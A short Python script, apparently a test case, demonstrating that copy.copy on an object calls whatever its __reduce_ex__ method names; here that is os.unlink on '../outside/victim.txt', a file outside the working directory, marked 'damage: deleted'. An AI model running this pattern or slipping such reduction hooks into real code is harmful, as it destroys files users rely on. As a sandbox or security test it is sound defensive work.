# Copying an object calls what its reduction names.
# damage: deleted
import copy
import os


class Payload:
    def __reduce_ex__(self, protocol):
        return os.unlink, ("../outside/victim.txt",)


copy.copy(Payload())
